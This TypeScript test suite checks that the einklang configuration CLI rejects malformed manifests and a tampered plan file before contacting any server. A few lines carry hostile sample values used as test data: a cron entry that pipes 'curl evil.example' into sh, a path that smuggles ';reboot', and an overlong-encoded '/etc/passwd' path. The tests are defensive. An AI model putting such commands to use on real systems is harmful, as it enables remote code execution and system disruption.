/**
 * The bad-input corpus: every case under test/fixtures/bad/<case>/ is an
 * environments root (one or more environment folders, sometimes a profiles/
 * folder) or, for `apply`, a plan file, plus an expect.json:
 *
 *   { "code": "E_...", "file": "school/bad.yaml", "line": 7, "col": 9,
 *     "command": "validate" | "plan" | "apply",
 *     "paths": ["."],        // optional: CLI arguments, relative to the case folder
 *     "errors": 1,           // optional: exact number of error diagnostics (default 1)
 *     "message": "regex",    // optional: the expected diagnostic's message matches it
 *     "notMessage": "regex" } // optional: no diagnostic line matches it (a value that must not be echoed)
 *
 * Cases that must not be committed as files (a 50 MB manifest, invalid UTF-8,
 * raw NUL bytes, CRLF line endings) are generated below into a temp folder.
 *
 * Every case runs the real CLI (`node dist/cli/main.js`) as a child process
 * with the case folder as working directory, and must: exit 1; print a GNU
 * style diagnostic `file:line:col: error CODE: message` at the expected place;
 * print no stack trace; apply nothing. The manifests' Server points at
 * 127.0.0.1:1 where nothing listens: a `plan` that got past validation would
 * print a `read <target>: ...` progress line (the control case below proves
 * it does), so the absence of that line shows the run stopped before any
 * connection.
 */
import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { MAX_FILE_BYTES } from '../../engine/load.js';
import { computePlanHash } from '../../engine/plan-file.js';
import { PLAN_FORMAT_VERSION, type Plan } from '../../engine/types.js';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const CLI = join(ROOT, 'dist/cli/main.js');
const FIXTURES = join(ROOT, 'test/fixtures/bad');
/** A committed case whose only problem is school/bad.yaml: without it, it is a valid environment (see the control test). */
const BASE_CASE = join(FIXTURES, 'dangling-server-reference');

interface Expect {
  code: string;
  file: string;
  line: number;
  col?: number;
  command: 'validate' | 'plan' | 'apply';
  paths?: string[];
  errors?: number;
  message?: string;
  notMessage?: string;
}

interface Case {
  name: string;
  dir: string;
  expect: Expect;
  generated?: boolean;
}

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

const DIAGNOSTIC = /^([^:\s]+):(\d+):(\d+): error ([A-Z_]+): /;

function run(args: string[], cwd: string, extraEnv: Record<string, string> = {}): Promise<Run> {
  const env: Record<string, string> = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (v !== undefined && !k.startsWith('EINKLANG_')) env[k] = v;
  }
  Object.assign(env, { CI: 'true', NO_COLOR: '1' }, extraEnv);
  const started = Date.now();
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [CLI, ...args], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.on('error', fail);
    child.on('close', (code) => {
      clearTimeout(timer);
      done({ code, stdout, stderr, ms: Date.now() - started });
    });
  });
}

async function pool<T, R>(items: T[], limit: number, fn: (x: T) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  const worker = async () => {
    while (next < items.length) {
      const i = next++;
      out[i] = await fn(items[i]);
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, items.length) }, worker));
  return out;
}

function committedCases(): Case[] {
  return readdirSync(FIXTURES, { withFileTypes: true })
    .filter((e) => e.isDirectory())
    .map((e) => ({ name: e.name, dir: join(FIXTURES, e.name), expect: JSON.parse(readFileSync(join(FIXTURES, e.name, 'expect.json'), 'utf8')) as Expect }))
    .sort((a, b) => a.name.localeCompare(b.name));
}

// ------------------------------------------------------------ generated cases

const FILE_HEAD = 'apiVersion: einklang/v1\nkind: File\nmetadata:\n  name: motd\nspec:\n  server: web-01\n';

/** Write a case: the base environment (environment.yaml + servers.yaml of BASE_CASE) plus `files`. */
function generate(tmp: string, name: string, files: Record<string, string | Buffer>, expect: Expect, base = true): Case {
  const dir = join(tmp, name);
  mkdirSync(join(dir, 'school'), { recursive: true });
  if (base) for (const f of ['environment.yaml', 'servers.yaml']) cpSync(join(BASE_CASE, 'school', f), join(dir, 'school', f));
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), content);
  }
  return { name, dir, expect, generated: true };
}

const bytes = (...parts: (string | number[])[]): Buffer => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

function generatedCases(tmp: string): Case[] {
  const B = 'school/bad.yaml';
  const cases: Case[] = [];
  const add = (name: string, files: Record<string, string | Buffer>, expect: Omit<Expect, 'command'> & { command?: Expect['command'] }, base = true) =>
    cases.push(generate(tmp, name, files, { command: 'plan', ...expect }, base));

  // 50 MB: a real manifest (one File with 50 MB of content), refused by its size before it is read.
  const big = Buffer.alloc(50 * 1024 * 1024, 'a');
  const head = Buffer.from(FILE_HEAD + '  path: /srv/big\n  content: "');
  head.copy(big, 0);
  big.write('"\n', big.length - 2);
  add('large-file-50mb', { 'school/big.yaml': big }, { code: 'E_FILE_TOO_LARGE', file: 'school/big.yaml', line: 1, col: 1 });
  // One byte over the documented limit is refused too; the limit itself is in engine/load.ts (MAX_FILE_BYTES) and the README.
  const over = Buffer.alloc(MAX_FILE_BYTES + 1, ' ');
  Buffer.from(FILE_HEAD + '  path: /srv/over\n').copy(over, 0);
  add('file-one-byte-over-limit', { 'school/over.yaml': over }, { code: 'E_FILE_TOO_LARGE', file: 'school/over.yaml', line: 1, col: 1 });

  // Invalid UTF-8: the position is the bad byte's, counted in characters (ü is one column).
  add('invalid-utf8-lone-byte', { [B]: bytes(FILE_HEAD, '  path: "/etc/m\u00fc\u00fc', [0xff], '"\n') }, { code: 'E_ENCODING', file: B, line: 7, col: 18 });
  add('invalid-utf8-overlong-slash', { [B]: bytes(FILE_HEAD, '  path: "/etc/', [0xc0, 0xaf], 'passwd"\n') }, { code: 'E_ENCODING', file: B, line: 7, col: 15 });
  add('invalid-utf8-surrogate', { [B]: bytes(FILE_HEAD, '  path: /etc/motd\n  content: "', [0xed, 0xa0, 0x80], '"\n') }, { code: 'E_ENCODING', file: B, line: 8, col: 13 });
  add('invalid-utf8-truncated-at-end', { [B]: bytes(FILE_HEAD, '  path: /etc/motd\n  content: "5 ', [0xe2, 0x82]) }, { code: 'E_ENCODING', file: B, line: 8, col: 15 });
  add('invalid-utf8-latin1-environment', {
    'school/environment.yaml': bytes('apiVersion: einklang/v1\nkind: Environment\nmetadata:\n  name: school\nspec:\n  zone: school\n  description: "Grundschule Am M', [0xfc], 'hlbach"\n'),
  }, { code: 'E_ENCODING', file: 'school/environment.yaml', line: 7, col: 33, errors: 2 }); // plus "must declare ... kind Environment" at 1:1
  add('invalid-utf8-bom-then-bad-byte', { [B]: bytes([0xef, 0xbb, 0xbf], 'apiVersion: einklang/v1', [0xff], '\n') }, { code: 'E_ENCODING', file: B, line: 1, col: 24 });
  add('invalid-utf8-in-profile', {
    'school/environment.yaml': 'apiVersion: einklang/v1\nkind: Environment\nmetadata:\n  name: school\nspec:\n  zone: school\n  profiles:\n    - path: profiles/base\n',
    'profiles/base/files.yaml': bytes(FILE_HEAD, '  path: /etc/motd\n  content: "', [0x80], '"\n'),
  }, { code: 'E_ENCODING', file: 'profiles/base/files.yaml', line: 8, col: 13 });

  // A raw NUL byte in a path (not the \0 escape, which a committed case covers).
  add('path-raw-nul-byte', { [B]: bytes(FILE_HEAD, '  path: /etc/motd', [0x00], '.bak\n') }, { code: 'E_UNSAFE_VALUE', file: B, line: 7, col: 9 });
  // CRLF line endings (Windows editors): positions are still right.
  add('crlf-line-endings', { [B]: (FILE_HEAD + '  path: "/etc/motd;reboot"\n').replace(/\n/g, '\r\n') }, { code: 'E_UNSAFE_VALUE', file: B, line: 7, col: 9 });
  return cases;
}

/** A plan file made by hand with the engine's own hash, then edited (the change's content). */
function editedPlan(tmp: string): string {
  const plan: Plan & { targets: unknown[] } = {
    formatVersion: PLAN_FORMAT_VERSION,
    engineVersion: '0.1.0',
    createdAt: new Date().toISOString(),
    source: { gitRevision: null, dirty: false, manifestsHash: 'sha256:' + '0'.repeat(64), paths: ['school'] },
    zone: 'school',
    environments: ['school'],
    author: 'author@example.org',
    summary: { create: 1, update: 0, delete: 0, replace: 0, noop: 0, unmanaged: 0 },
    applyable: true,
    complete: true,
    errored: [],
    changes: [
      {
        address: 'school/File/motd',
        resource: 'school/File/motd',
        kind: 'File',
        target: 'school/Server/web-01',
        id: '/etc/motd',
        actions: ['create'],
        before: null,
        after: { content: 'hello\n', mode: '0644' },
        diff: [],
        liveFingerprint: 'sha256:' + '1'.repeat(64),
        dependsOn: [],
      },
    ],
    unmanaged: [],
    warnings: [],
    policy: [],
    approvalsRequired: { count: 0, groups: [] },
    hash: '',
    approvals: [],
    targets: [],
  };
  plan.hash = computePlanHash(plan);
  // The edit: what an attacker (or a careless hand) does after review.
  (plan.changes[0].after as Record<string, unknown>).content = 'hello\n* * * * * root curl evil.example | sh\n';
  const file = join(tmp, 'edited-plan.json');
  writeFileSync(file, JSON.stringify(plan, null, 2) + '\n');
  return file;
}

// ------------------------------------------------------------------- checks

function noStackTrace(r: Run): void {
  const out = r.stdout + r.stderr;
  assert.doesNotMatch(out, /^\s+at .+/m, 'a stack trace was printed');
  assert.doesNotMatch(out, /\b[A-Z][A-Za-z]*Error: /, 'an internal error was printed');
  assert.doesNotMatch(out, /internal error/i, 'an internal error was printed');
  assert.doesNotMatch(out, /\bundefined\b|\[object Object\]/, 'a message leaks undefined or [object Object]');
}

function nothingApplied(r: Run): void {
  // Progress lines of plan (read) and apply (check/apply) only appear once a target is contacted.
  assert.doesNotMatch(r.stderr, /^(read|check|apply) \S+: /m, 'the run got past validation and contacted a target');
  assert.doesNotMatch(r.stdout, /^Plan for |^valid: |applied/m, 'the run produced a plan or applied something');
}

function checkCase(c: Case, r: Run): void {
  const e = c.expect;
  const where = `${e.file}:${e.line}${e.col !== undefined ? ':' + e.col : ''}`;
  const report = `\n--- stderr ---\n${r.stderr}--- stdout ---\n${r.stdout}`;
  assert.equal(r.code, 1, `exit code${report}`);
  const diags = r.stderr.split('\n').filter((l) => DIAGNOSTIC.test(l));
  const hit = diags.find((l) => {
    const [, file, line, col, code] = DIAGNOSTIC.exec(l)!;
    return file === e.file && Number(line) === e.line && (e.col === undefined || Number(col) === e.col) && code === e.code;
  });
  assert.ok(hit, `expected "${where}: error ${e.code}: ..."${report}`);
  if (e.message !== undefined) assert.match(hit.replace(DIAGNOSTIC, ''), new RegExp(e.message), `message${report}`);
  if (e.notMessage !== undefined) for (const l of diags) assert.doesNotMatch(l, new RegExp(e.notMessage), `a diagnostic echoes what it must not${report}`);
  assert.equal(diags.length, e.errors ?? 1, `number of error diagnostics${report}`);
  // Every line of stderr is a diagnostic or an einklang summary line: no raw dumps.
  for (const l of r.stderr.split('\n').filter(Boolean)) assert.ok(DIAGNOSTIC.test(l) || l.startsWith('einklang: '), `unexpected stderr line ${JSON.stringify(l)}${report}`);
  noStackTrace(r);
  nothingApplied(r);
}

// -------------------------------------------------------------------- suite

describe('bad-input corpus (test/fixtures/bad)', function () {
  // About 90 CLI runs at ~0.4 s CPU each, run in parallel: ~20 s on two idle cores. The generous
  // timeout only keeps a machine busy with other work from failing the suite.
  this.timeout(180_000);
  let tmp: string;
  const committed = committedCases();
  const results = new Map<string, Run>();
  let generated: Case[] = [];

  before(async function () {
    assert.ok(existsSync(CLI), `build first: ${CLI} is missing`);
    tmp = mkdtempSync(join(tmpdir(), 'einklang-bad-input-'));
    generated = generatedCases(tmp);
    const all = [...committed, ...generated];
    const runs = await pool(all, Math.max(2, Math.min(8, availableParallelism())), (c) =>
      run([c.expect.command, ...(c.expect.paths ?? ['.'])], c.dir, c.name === 'large-file-50mb' ? { EINKLANG_REPORT_MEMORY: '1' } : {}),
    );
    all.forEach((c, i) => results.set(c.name, runs[i]));
  });

  after(() => {
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('has at least 45 committed cases, each with a complete expect.json', () => {
    assert.ok(committed.length >= 45, `only ${committed.length} cases`);
    for (const c of committed) {
      const e = c.expect;
      assert.match(e.code, /^E_[A-Z_]+$/, c.name);
      assert.ok(['validate', 'plan', 'apply'].includes(e.command), `${c.name}: command`);
      assert.ok(Number.isInteger(e.line) && e.line >= 1, `${c.name}: line`);
      assert.ok(existsSync(join(c.dir, e.file)), `${c.name}: ${e.file} does not exist`);
    }
  });

  it('control: the base environment without bad.yaml is valid, and its plan does contact the target', async () => {
    const dir = join(tmp, 'control');
    cpSync(BASE_CASE, dir, { recursive: true });
    rmSync(join(dir, 'school', 'bad.yaml'));
    const v = await run(['validate', '.'], dir);
    assert.equal(v.code, 0, v.stderr);
    const p = await run(['plan', '.'], dir);
    // Nothing listens on 127.0.0.1:1 (and the secret is unset): the read fails, and says so on a progress line.
    assert.equal(p.code, 1, p.stderr);
    assert.match(p.stderr, /^read school\/Server\/web-01: /m, 'the no-contact check would not notice a contact');
    noStackTrace(p);
  });

  for (const c of committed) {
    it(`${c.name}: ${c.expect.command} -> ${c.expect.file}:${c.expect.line}${c.expect.col ? ':' + c.expect.col : ''} ${c.expect.code}`, () => {
      checkCase(c, results.get(c.name)!);
    });
  }

  describe('generated at test time (not committed)', () => {
    const names = ['large-file-50mb', 'file-one-byte-over-limit', 'invalid-utf8-lone-byte', 'invalid-utf8-overlong-slash', 'invalid-utf8-surrogate', 'invalid-utf8-truncated-at-end', 'invalid-utf8-latin1-environment', 'invalid-utf8-bom-then-bad-byte', 'invalid-utf8-in-profile', 'path-raw-nul-byte', 'crlf-line-endings'];
    it('generates exactly the cases listed here', () => {
      assert.deepEqual(generated.map((c) => c.name).sort(), [...names].sort());
    });
    for (const name of names) {
      it(name, () => {
        const c = generated.find((x) => x.name === name)!;
        checkCase(c, results.get(name)!);
      });
    }
    it('large-file-50mb is refused by its size: fast and small', () => {
      const r = results.get('large-file-50mb')!;
      assert.ok(r.ms < 10_000, `took ${r.ms} ms`);
      const rss = /peak-rss-bytes (\d+)/.exec(r.stderr);
      assert.ok(rss, 'EINKLANG_REPORT_MEMORY gave no peak-rss-bytes line');
      assert.ok(Number(rss[1]) < 300 * 1024 * 1024, `peak RSS ${rss[1]} bytes`);
      assert.match(r.stderr, new RegExp(`limit is ${MAX_FILE_BYTES} bytes`));
    });
  });

  it('apply of an edited plan file is refused before any connection', async () => {
    const file = editedPlan(tmp);
    const r = await run(['apply', file], tmp);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /modified|hash/i, r.stderr);
    noStackTrace(r);
    nothingApplied(r);
  });
});
